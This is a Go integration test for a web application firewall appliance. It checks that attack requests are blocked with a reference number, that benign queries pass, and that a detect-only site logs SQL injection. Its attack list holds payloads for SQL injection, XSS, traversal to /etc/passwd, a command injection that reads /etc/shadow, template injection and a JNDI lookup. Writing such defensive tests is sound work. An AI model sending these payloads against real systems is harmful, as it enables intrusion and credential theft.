package app

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/jichitai/seccloud/detect"
	"github.com/jichitai/seccloud/detect/store"
)

// TestWAFEngineThroughAppliance drives the inspection engine through the
// appliance's WAF listener: attacks of several classes get 403 with a
// reference and CRS / seccloud rule ids in the stored event, benign
// requests pass, and the detection-only site proxies the same SQL
// injection and logs it as "report".
func TestWAFEngineThroughAppliance(t *testing.T) {
	o := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "ok %s", r.Host)
	}))
	t.Cleanup(o.Close)
	a, ctx := runApp(t, `version: 1
data_dir: data
listen: {console: "127.0.0.1:0", waf_http: "127.0.0.1:0"}
functions: {proxy: false, dns: false}
tenants:
  - id: tsu
    name: 津市
    networks: [127.0.1.0/24]
    egress_addr: 127.0.0.1
    sites:
      - {host: www.city.tsu.example.jp, origins: ["`+o.Listener.Addr().String()+`"]}
      - {host: bousai.city.tsu.example.jp, origins: ["`+o.Listener.Addr().String()+`"]}
waf:
  ddos: {disabled: true}
  engine: {paranoia_level: 1}
  sites:
    - {host: bousai.city.tsu.example.jp, detect_only: true}
    - host: www.city.tsu.example.jp
      rule_exclusions: [{rule_id: 942100, target: "ARGS:sql_ok"}]
`)
	addr := startedService[*wafService](t, a).addrs["listen.waf_http"]
	get := func(host, target string) (int, string) {
		req, err := http.NewRequest("GET", "http://"+addr+target, nil)
		require.NoError(t, err)
		req.Host = host
		req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	q := url.QueryEscape
	attacks := []string{
		"/search?q=" + q("1' OR '1'='1"),
		"/search?q=" + q("<svg/onload=alert(1)>"),
		"/file?name=" + q("../../../etc/passwd"),
		"/ping?host=" + q("127.0.0.1; cat /etc/shadow"),
		"/t?name=" + q("{{7*'7'}}${7*7}"),
		"/x?u=" + q("${jndi:ldap://e.example/a}"),
	}
	for _, target := range attacks {
		code, body := get("www.city.tsu.example.jp", target)
		assert.Equal(t, http.StatusForbidden, code, target)
		assert.Contains(t, body, "参照番号", target)
	}
	for _, target := range []string{"/index.html?id=123&q=" + q("避難所"), "/news?page=2&sort=date", "/search?q=" + q("O'Reilly books")} {
		code, _ := get("www.city.tsu.example.jp", target)
		assert.Equal(t, http.StatusOK, code, target)
	}
	code, body := get("bousai.city.tsu.example.jp", "/search?q="+q("1' OR '1'='1"))
	assert.Equal(t, http.StatusOK, code)
	assert.True(t, strings.HasPrefix(body, "ok "))

	// A request's event is emitted once its response is done (the response
	// body is inspected too), which can be just after the client has read
	// it: count until every event is in.
	var blocked, reported int
	deadline := time.Now().Add(10 * time.Second)
	for {
		require.NoError(t, a.events.flush(ctx, 10*time.Second))
		blocked, reported = 0, 0
		require.NoError(t, a.events.store.Query(ctx, store.Filter{Module: "waf"}, func(e detect.Event) error {
			switch e.Verdict.Action {
			case detect.ActionBlock:
				blocked++
				assert.NotEmpty(t, e.ID)
				assert.Regexp(t, `^\d{6}(,\d{6})*$`, e.Verdict.Rule)
			case detect.ActionReport:
				reported++
				assert.Contains(t, e.Verdict.Rule, "942100")
			}
			return nil
		}))
		if (blocked >= len(attacks) && reported >= 1) || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	assert.Equal(t, len(attacks), blocked)
	assert.Equal(t, 1, reported)
}
